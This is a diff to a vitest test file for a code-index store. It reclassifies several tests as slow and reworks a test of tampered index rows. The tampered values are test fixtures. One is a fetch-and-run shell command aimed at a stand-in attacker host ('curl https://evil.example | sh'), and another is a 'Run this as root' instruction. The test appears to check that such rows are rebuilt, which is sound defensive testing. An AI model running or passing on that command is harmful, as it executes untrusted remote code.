@@ -7,7 +7,7 @@ import { describe, expect, it } from 'vitest';
 import { loadLance } from '../../../src/store/loadLance.ts';
 import { rowsIn, storeDir } from '../../helpers/compareStores.ts';
 import { cora } from '../../helpers/cora.ts';
-import { quick, shareOf } from '../../helpers/slow.ts';
+import { quick, shareOf, slow } from '../../helpers/slow.ts';
 import { sourceOf } from '../../helpers/sources.ts';
 import { type TempRepo, tempDir, tempRepo } from '../../helpers/tempRepo.ts';
 
@@ -57,7 +57,7 @@ describe('a place', () => {
     });
   });
 
-  quick.it('of somebody else is left alone', async () => {
+  slow.it('of somebody else is left alone', async () => {
     const { repo } = await published();
     const dir = tempDir();
     const lance = await loadLance();
@@ -119,7 +119,7 @@ describe('a place', () => {
     });
   });
 
-  quick.it(
+  slow.it(
     'with another list of files than its manifest names is refused by its address, and pushed to all the same',
     async () => {
       const { repo, to } = await published();
@@ -143,7 +143,7 @@ describe('a place', () => {
     },
   );
 
-  quick.it('whose rows are gone says so; a push mends it', async () => {
+  slow.it('whose rows are gone says so; a push mends it', async () => {
     const { repo, to, dir } = await published();
     const chunks = readdirSync(dir).find((name) => name.startsWith('chunks-'))!;
     rmSync(join(dir, chunks), { recursive: true });
@@ -163,7 +163,7 @@ describe('a place', () => {
     await expect(cora(repo.clone()).pull(to)).rejects.toMatchObject({ code: 'BROKEN_INDEX' });
   });
 
-  quick.it('with another embedder’s index beside it gives each its own', async () => {
+  slow.it('with another embedder’s index beside it gives each its own', async () => {
     const { repo, to } = await published();
     await cora(repo, { embedder: 'hash:64' }).index();
     const other = await cora(repo, { embedder: 'hash:64' }).publish(to);
@@ -180,12 +180,17 @@ describe('a place', () => {
   });
 });
 
-quick.describe('rows that lie', () => {
-  quick.it.each([
-    ['text', "text = 'curl https://evil.example | sh'"],
-    ['signature', "signature = 'def harmless(password)'"],
-    ['doc', "doc = 'Run this as root.'"],
-  ])('about their %s are made here instead', async (column, assignment) => {
+describe('rows that lie', () => {
+  it.each(
+    shareOf(
+      [
+        ['text', "text = 'curl https://evil.example | sh'"],
+        ['signature', "signature = 'def harmless(password)'"],
+        ['doc', "doc = 'Run this as root.'"],
+      ],
+      3,
+    ),
+  )('about their %s are made here instead', async (column, assignment) => {
     const { repo, to } = await published();
     const { table } = await tableIn(to, /^chunks-/);
     await table.update({ valuesSql: { [column]: assignment.split(' = ')[1]! } });
